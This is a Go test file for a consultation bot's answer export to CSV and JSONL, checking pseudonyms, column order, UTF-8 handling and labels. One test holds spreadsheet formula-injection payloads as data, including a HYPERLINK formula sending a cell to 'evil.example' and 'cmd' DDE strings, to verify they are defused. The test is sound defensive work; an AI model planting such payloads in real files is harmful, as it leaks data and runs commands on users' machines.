package organiser

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"consultbot/bot"
	"consultbot/digest"
	"consultbot/flows"
	"consultbot/storage"
)

var testKey = []byte("0123456789abcdef0123456789abcdef")

// exportStore stores answers that break naive CSV: separators, quotes,
// line breaks, accents, a voice note, and hides one of them.
func exportStore(t *testing.T) (*storage.DB, []Row) {
	db := openDB(t, "")
	type in struct {
		a    answerOpt
		kind string
	}
	ins := []in{
		{answerOpt{participant: "telegram:1", profile: "parent", academie: "Lyon", source: "affiche_jaures",
			theme: "acces", question: "equipement", text: "Des PC; des tablettes; et du \"vrai\" réseau", at: t0}, "text"},
		{answerOpt{participant: "telegram:1", profile: "parent", academie: "Lyon", source: "affiche_jaures",
			theme: "acces", question: "besoins", text: "Ligne 1\nLigne 2, avec virgule\n\nFin — élève, être, naïf", at: t0.Add(time.Minute)}, "text"},
		{answerOpt{participant: "discord:2", channel: bot.ChannelDiscord, profile: "enseignant", lang: "en",
			theme: "acces", question: "equipement", text: `"Entre guillemets"`, at: t0.Add(2 * time.Minute)}, "text"},
		{answerOpt{participant: "telegram:3", theme: "gouvernance", question: "parents",
			voice: &flows.Voice{FileID: "AwACAgQ", Duration: 12}, at: t0.Add(3 * time.Minute)}, "voice"},
	}
	q := flows.DefaultQuestionnaire()
	p, _ := NewPseudonymizer(testKey)
	var want []Row
	for _, x := range ins {
		if x.a.lang == "" {
			x.a.lang = flows.LangFR
		}
		id := put(t, db, x.a)
		ch := x.a.channel
		if ch == "" {
			ch = bot.ChannelTelegram
		}
		r := Row{AnswerID: id, Participant: p.Pseudonym(x.a.participant), Channel: ch, Profile: x.a.profile,
			Academie: flows.AcademieCode(x.a.academie), AcademieLabel: x.a.academie, Source: x.a.source, Lang: x.a.lang, ThemeID: x.a.theme, ThemeTitle: q.Theme(x.a.theme).Title.In("fr"),
			QuestionID: x.a.question, QuestionText: q.Question(x.a.theme, x.a.question).Prompt.In("fr"),
			QuestionTitle:    q.Question(x.a.theme, x.a.question).Title.In("fr"),
			QuestionTextSeen: q.Question(x.a.theme, x.a.question).Prompt.In(x.a.lang),
			AnswerKind:       x.kind, Answer: x.a.text,
			CreatedAt: x.a.at.Format(time.RFC3339), UpdatedAt: x.a.at.Format(time.RFC3339)}
		if x.kind == "voice" {
			r.Answer = "voice:AwACAgQ (12 s)"
		}
		if p := q.Profile(x.a.profile); p != nil {
			r.ProfileLabel = p.Label.In("fr")
		}
		want = append(want, r)
	}
	if _, _, err := db.SetHidden(want[2].AnswerID, true, t0); err != nil {
		t.Fatal(err)
	}
	want[2].Hidden = true
	// Export order: the order the answers were given (their keys sort
	// by theme, question and participant: 1, 2, 0, 3). An edit keeps an
	// answer's place.
	edit := ins[0].a
	edit.text, edit.at = "Des PC, des tablettes, du réseau", t0.Add(4*time.Minute)
	put(t, db, edit)
	want[0].Answer, want[0].UpdatedAt = edit.text, edit.at.Format(time.RFC3339)
	return db, want
}

func export(t *testing.T, db *storage.DB, opts ExportOptions) []byte {
	t.Helper()
	if opts.Pseudonyms == nil {
		opts.Pseudonyms, _ = NewPseudonymizer(testKey)
	}
	var buf bytes.Buffer
	if _, err := Export(context.Background(), db, nil, &buf, opts); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestCSVExportParsesBackToTheStore(t *testing.T) {
	db, want := exportStore(t)
	for _, sep := range []rune{';', ',', '\t'} {
		out := export(t, db, ExportOptions{Format: FormatCSV, Separator: sep})
		if !bytes.HasPrefix(out, []byte("\xef\xbb\xbf")) {
			t.Fatalf("%q: no UTF-8 BOM", sep)
		}
		if !bytes.Contains(out, []byte("\r\n")) {
			t.Errorf("%q: lines do not end in CRLF", sep)
		}
		r := csv.NewReader(bytes.NewReader(out[3:]))
		r.Comma = sep
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%q: parse back: %v", sep, err)
		}
		if diff := cmp.Diff(ExportColumns, recs[0]); diff != "" {
			t.Errorf("header (-want +got):\n%s", diff)
		}
		var wantRecs [][]string
		for _, row := range want {
			wantRecs = append(wantRecs, row.fields())
		}
		if diff := cmp.Diff(wantRecs, recs[1:]); diff != "" {
			t.Errorf("%q: rows (-want +got):\n%s", sep, diff)
		}
	}
}

func TestJSONLExportParsesBackToTheStore(t *testing.T) {
	db, want := exportStore(t)
	out := export(t, db, ExportOptions{Format: FormatJSONL})
	var got []Row
	sc := bufio.NewScanner(bytes.NewReader(out))
	for sc.Scan() {
		var r Row
		dec := json.NewDecoder(bytes.NewReader(sc.Bytes()))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&r); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		got = append(got, r)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
}

func TestPseudonymsAreStableKeyedAndOpaque(t *testing.T) {
	db, _ := exportStore(t)
	a, _ := NewPseudonymizer(testKey)
	b, _ := NewPseudonymizer([]byte("another key, also 32 bytes long!"))
	if a.Pseudonym("telegram:1") != a.Pseudonym("telegram:1") {
		t.Error("same participant, same key: different pseudonyms")
	}
	if a.Pseudonym("telegram:1") == a.Pseudonym("telegram:3") {
		t.Error("two participants share a pseudonym")
	}
	if a.Pseudonym("telegram:1") == b.Pseudonym("telegram:1") {
		t.Error("the pseudonym does not depend on the key")
	}
	out := string(export(t, db, ExportOptions{Format: FormatJSONL}))
	for _, id := range []string{"telegram:1", "discord:2", "telegram:3"} {
		if strings.Contains(out, id) {
			t.Errorf("export contains participant id %q", id)
		}
	}
	if strings.Count(out, a.Pseudonym("telegram:1")) != 2 {
		t.Errorf("participant with two answers does not have the same pseudonym on both rows")
	}
	for _, key := range [][]byte{nil, []byte("short")} {
		if _, err := NewPseudonymizer(key); err == nil || !strings.Contains(err.Error(), PseudonymKeyEnv) {
			t.Errorf("NewPseudonymizer(%q) error = %v, want one naming %s", key, err, PseudonymKeyEnv)
		}
	}
}

func TestExportLeavesOutAnswersCreatedAfterItStarted(t *testing.T) {
	db, want := exportStore(t)
	out := export(t, db, ExportOptions{Format: FormatJSONL, Until: t0.Add(2 * time.Minute)})
	if n := bytes.Count(out, []byte("\n")); n != len(want)-2 {
		t.Errorf("%d rows with Until, want %d", n, len(want)-2)
	}
}

// TestCSVExportDefusesFormulaInjection: an answer starting with =, +, -,
// @, a tab or a carriage return ran as a formula when an organiser opened
// the CSV in a spreadsheet. Such cells now start with an apostrophe
// (OWASP's CSV injection guidance); Raw keeps them as stored, and JSONL is
// unchanged.
func TestCSVExportDefusesFormulaInjection(t *testing.T) {
	db := openDB(t, "")
	texts := []string{
		`=HYPERLINK("http://evil.example/?"&A1;"Cliquez")`,
		"+33 6 12 34 56 78",
		"-1+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"Une réponse = normale, avec - et @ au milieu",
	}
	for i, text := range texts {
		put(t, db, answerOpt{participant: "telegram:" + string(rune('a'+i)), theme: "acces", question: "equipement", text: text, at: t0})
	}
	answers := func(out []byte) []string {
		t.Helper()
		r := csv.NewReader(bytes.NewReader(out[3:]))
		r.Comma = ';'
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, rec := range recs[1:] {
			got = append(got, rec[slices.Index(ExportColumns, "answer")])
		}
		slices.Sort(got)
		return got
	}
	// The CSV writer in CRLF mode drops a lone carriage return.
	noCR := func(s string) string { return strings.ReplaceAll(s, "\r", "") }
	var want, rawCSV, raw []string
	for _, text := range texts {
		raw = append(raw, text)
		rawCSV = append(rawCSV, noCR(text))
		if strings.ContainsAny(text[:1], "=+-@\t\r") {
			text = "'" + text
		}
		want = append(want, noCR(text))
	}
	slices.Sort(want)
	slices.Sort(rawCSV)
	slices.Sort(raw)
	if diff := cmp.Diff(want, answers(export(t, db, ExportOptions{Format: FormatCSV}))); diff != "" {
		t.Errorf("CSV cells (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(rawCSV, answers(export(t, db, ExportOptions{Format: FormatCSV, Raw: true}))); diff != "" {
		t.Errorf("raw CSV cells (-want +got):\n%s", diff)
	}
	var got []string
	sc := bufio.NewScanner(bytes.NewReader(export(t, db, ExportOptions{Format: FormatJSONL})))
	for sc.Scan() {
		var r Row
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatal(err)
		}
		got = append(got, r.Answer)
	}
	slices.Sort(got)
	if diff := cmp.Diff(raw, got); diff != "" {
		t.Errorf("JSONL answers (-want +got):\n%s", diff)
	}
}

// TestExportIsValidUTF8: a text with bytes that are not UTF-8 (a terminal
// in Latin-1, say) is stored with U+FFFD in their place, so that both
// formats stay valid UTF-8 for a spreadsheet or a JSON reader; a line
// break inside an answer stays inside its quoted cell.
func TestExportIsValidUTF8(t *testing.T) {
	db := openDB(t, "")
	put(t, db, answerOpt{participant: "telegram:a", theme: "acces", question: "equipement", text: "caf\xe9 \xff;\"=1\"\r\nsuite", at: t0})
	for _, format := range []string{FormatCSV, FormatJSONL} {
		out := export(t, db, ExportOptions{Format: format})
		if !utf8.Valid(out) {
			t.Errorf("%s export is not valid UTF-8: %q", format, out)
		}
		if !bytes.Contains(out, []byte("caf\uFFFD \uFFFD")) {
			t.Errorf("%s export lost the answer's readable part: %q", format, out)
		}
	}
	r := csv.NewReader(bytes.NewReader(export(t, db, ExportOptions{Format: FormatCSV})[3:]))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("CSV with a line break in an answer: %d records, %v", len(recs), err)
	}
	if got := recs[1][slices.Index(ExportColumns, "answer")]; got != "caf\uFFFD \uFFFD;\"=1\"\nsuite" {
		t.Errorf("answer cell %q", got)
	}
}

// TestExportRowsNameTheirQuestion: an analyst reads on each row the
// theme's title, the question's text and the short title digests name it
// by, without cross-referencing ids; the columns scripts already read keep
// their places, the new one comes last.
func TestExportRowsNameTheirQuestion(t *testing.T) {
	db, _ := exportStore(t)
	out := export(t, db, ExportOptions{Format: FormatCSV})
	r := csv.NewReader(bytes.NewReader(out[3:]))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	before := []string{
		"answer_id", "participant", "channel", "profile", "academie", "source", "lang",
		"theme_id", "theme_title", "question_id", "question_text",
		"answer_kind", "answer", "hidden", "created_at", "updated_at",
		"transcribed", "audio_file", "audio_status",
	}
	if len(recs[0]) <= len(before) || !slices.Equal(recs[0][:len(before)], before) {
		t.Fatalf("header %q: the columns scripts read moved; want %q first", recs[0], before)
	}
	col := func(name string) int { return slices.Index(recs[0], name) }
	if col("question_title") < len(before) {
		t.Fatalf("header %q: no question_title after the earlier columns", recs[0])
	}
	q := flows.DefaultQuestionnaire()
	d := digest.Compute(digest.Input{Questionnaire: q, Answers: []digest.Answer{{ID: 1, Participant: "p", Theme: "acces", Question: "equipement", Text: "Des ordinateurs", CreatedAt: t0}}})
	if got := d.Themes[0].Questions[0].Title; got != "Équipement et accès gratuit" {
		t.Fatalf("the digest names the question %q", got)
	}
	for _, rec := range recs[1:] {
		th, qu := q.Theme(rec[col("theme_id")]), q.Question(rec[col("theme_id")], rec[col("question_id")])
		if rec[col("theme_title")] != th.Title.In("fr") || rec[col("question_text")] != qu.Prompt.In("fr") || rec[col("question_title")] != qu.Title.In("fr") {
			t.Errorf("row %q does not name its theme and question in French: %q, %q, %q", rec[0], rec[col("theme_title")], rec[col("question_text")], rec[col("question_title")])
		}
		if rec[col("question_id")] == "equipement" && rec[col("question_title")] != "Équipement et accès gratuit" {
			t.Errorf("row %q: question_title %q, want the digest's « Équipement et accès gratuit »", rec[0], rec[col("question_title")])
		}
	}
}

// TestExportPairsCodesWithLabels: profile and academie hold stable codes,
// as theme_id and question_id do, and profile_label and academie_label,
// after the columns scripts already read, their readable names, in CSV
// and JSONL alike. An académie the bot no longer knows keeps its name.
func TestExportPairsCodesWithLabels(t *testing.T) {
	db := openDB(t, "")
	for i, a := range []answerOpt{
		{participant: "telegram:1", profile: "parent", academie: "La Réunion"},
		{participant: "telegram:2", profile: "enseignant", academie: "Aix-Marseille"},
		{participant: "telegram:3", profile: "parent", academie: "Caen"},
		{participant: "telegram:4"},
	} {
		a.theme, a.question, a.text, a.at = "acces", "equipement", "Des ordinateurs", t0.Add(time.Duration(i)*time.Minute)
		put(t, db, a)
	}
	want := [][4]string{ // profile, profile_label, academie, academie_label
		{"parent", "Parent", "la-reunion", "La Réunion"},
		{"enseignant", "Enseignant ou enseignante", "aix-marseille", "Aix-Marseille"},
		{"parent", "Parent", "", "Caen"},
		{"", "", "", ""},
	}
	r := csv.NewReader(bytes.NewReader(export(t, db, ExportOptions{Format: FormatCSV})[3:]))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int { return slices.Index(recs[0], name) }
	if col("profile") != 3 || col("academie") != 4 || col("profile_label") < col("question_title") || col("academie_label") < col("question_title") {
		t.Fatalf("header %q: profile and academie moved, or their labels are not after the earlier columns", recs[0])
	}
	sc := bufio.NewScanner(bytes.NewReader(export(t, db, ExportOptions{Format: FormatJSONL})))
	for i, rec := range recs[1:] {
		got := [4]string{rec[col("profile")], rec[col("profile_label")], rec[col("academie")], rec[col("academie_label")]}
		if got != want[i] {
			t.Errorf("CSV row %d: profile, label, academie, label = %q, want %q", i+1, got, want[i])
		}
		var row Row
		if !sc.Scan() || json.Unmarshal(sc.Bytes(), &row) != nil {
			t.Fatalf("JSONL line %d missing or unreadable", i+1)
		}
		if got := [4]string{row.Profile, row.ProfileLabel, row.Academie, row.AcademieLabel}; got != want[i] {
			t.Errorf("JSONL line %d: profile, label, academie, label = %q, want %q", i+1, got, want[i])
		}
	}
}

// TestExportQuestionAsSeen: question_text_seen, the last column, after
// academie_label, gives the question in the language the participant
// answered in (question_text stays French), in CSV and JSONL alike; a
// choice question's answer is the option's code, the same whichever
// language its buttons were in.
func TestExportQuestionAsSeen(t *testing.T) {
	f, err := os.Open("../flows/testdata/small.json")
	if err != nil {
		t.Fatal(err)
	}
	q, err := flows.LoadQuestionnaire(f)
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	db := openDB(t, "")
	for i, a := range []answerOpt{
		{participant: "discord:1", lang: flows.LangEN, question: "temps", text: "Two hours a day"},
		{participant: "telegram:2", lang: flows.LangFR, question: "temps", text: "Deux heures par jour"},
		{participant: "discord:1", lang: flows.LangEN, question: "cantine", choice: "oui"},
		{participant: "telegram:2", lang: flows.LangFR, question: "cantine", choice: "non"},
	} {
		a.theme, a.at = "ecole", t0.Add(time.Duration(i)*time.Minute)
		put(t, db, a)
	}
	temps, cantine := q.Question("ecole", "temps").Prompt, q.Question("ecole", "cantine").Prompt
	want := [][3]string{ // question_text, question_text_seen, answer
		{temps.In("fr"), "How long do your children spend on screens for school?", "Two hours a day"},
		{temps.In("fr"), temps.In("fr"), "Deux heures par jour"},
		{cantine.In("fr"), "Do you read the canteen menu online?", "oui"},
		{cantine.In("fr"), cantine.In("fr"), "non"},
	}
	p, _ := NewPseudonymizer(testKey)
	exportAs := func(format string) []byte {
		var buf bytes.Buffer
		if _, err := Export(context.Background(), db, q, &buf, ExportOptions{Format: format, Pseudonyms: p}); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	r := csv.NewReader(bytes.NewReader(exportAs(FormatCSV)[3:]))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := recs[0]
	if i := slices.Index(header, "question_text_seen"); i < 1 || header[i-1] != "academie_label" {
		t.Fatalf("header %q: question_text_seen does not follow academie_label", header)
	}
	if !slices.Equal(header[:slices.Index(header, "question_text_seen")], []string{
		"answer_id", "participant", "channel", "profile", "academie", "source", "lang",
		"theme_id", "theme_title", "question_id", "question_text",
		"answer_kind", "answer", "hidden", "created_at", "updated_at",
		"transcribed", "audio_file", "audio_status",
		"question_title", "profile_label", "academie_label",
	}) {
		t.Errorf("header %q: the earlier columns moved", header)
	}
	col := func(name string) int { return slices.Index(header, name) }
	lines := strings.Split(strings.TrimSpace(string(exportAs(FormatJSONL))), "\n")
	if len(recs) != len(want)+1 || len(lines) != len(want) {
		t.Fatalf("%d CSV rows, %d JSONL lines, want %d", len(recs)-1, len(lines), len(want))
	}
	for i, rec := range recs[1:] {
		if got := [3]string{rec[col("question_text")], rec[col("question_text_seen")], rec[col("answer")]}; got != want[i] {
			t.Errorf("CSV row %d (%s): question_text, question_text_seen, answer = %q, want %q", i+1, rec[col("lang")], got, want[i])
		}
		var row map[string]any
		if err := json.Unmarshal([]byte(lines[i]), &row); err != nil {
			t.Fatal(err)
		}
		if got := [3]string{row["question_text"].(string), row["question_text_seen"].(string), row["answer"].(string)}; got != want[i] {
			t.Errorf("JSONL line %d: question_text, question_text_seen, answer = %q, want %q", i+1, got, want[i])
		}
	}
	if keys := jsonKeys(t, lines[0]); !slices.Equal(keys, header) {
		t.Errorf("JSON keys %q, want the CSV header's order %q", keys, header)
	}
}

// jsonKeys returns the keys of the JSON object line, in order.
func jsonKeys(t *testing.T, line string) []string {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(line))
	var keys []string
	if _, err := dec.Token(); err != nil {
		t.Fatal(err)
	}
	for dec.More() {
		k, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		keys = append(keys, k.(string))
		var v any
		if err := dec.Decode(&v); err != nil {
			t.Fatal(err)
		}
	}
	return keys
}

// TestExportSaysWhetherTheThemeWasValidated: a parent validates theme 1
// and answers theme 2's first question; the export's last column says
// « true » on theme 1's rows and « false » on theme 2's, in CSV and JSONL.
func TestExportSaysWhetherTheThemeWasValidated(t *testing.T) {
	db := openDB(t, "")
	q := flows.DefaultQuestionnaire()
	c := &converse{t: t, db: db, m: flows.NewMachine(q, flows.Config{}), participant: "telegram:parent", at: t0}
	c.validateFirstTheme(q)
	c.say("Une réponse au thème 2, assez longue pour être gardée.")

	r := csv.NewReader(bytes.NewReader(export(t, db, ExportOptions{Format: FormatCSV})[3:]))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := recs[0]
	if header[len(header)-1] != "theme_validated" {
		t.Fatalf("header %q: theme_validated is not last", header)
	}
	lines := strings.Split(strings.TrimSpace(string(export(t, db, ExportOptions{Format: FormatJSONL}))), "\n")
	if len(recs)-1 != len(q.Themes[0].Questions)+1 || len(lines) != len(recs)-1 {
		t.Fatalf("%d CSV rows and %d JSONL lines, want %d", len(recs)-1, len(lines), len(q.Themes[0].Questions)+1)
	}
	for i, rec := range recs[1:] {
		theme := rec[slices.Index(header, "theme_id")]
		want := theme == q.Themes[0].ID
		if got := rec[len(rec)-1]; got != strconv.FormatBool(want) {
			t.Errorf("CSV row %d (theme %s): theme_validated %q, want %v", i+1, theme, got, want)
		}
		var row map[string]any
		if err := json.Unmarshal([]byte(lines[i]), &row); err != nil {
			t.Fatal(err)
		}
		if got := row["theme_validated"]; got != want {
			t.Errorf("JSONL line %d (theme %s): theme_validated %v, want %v", i+1, theme, got, want)
		}
	}
}
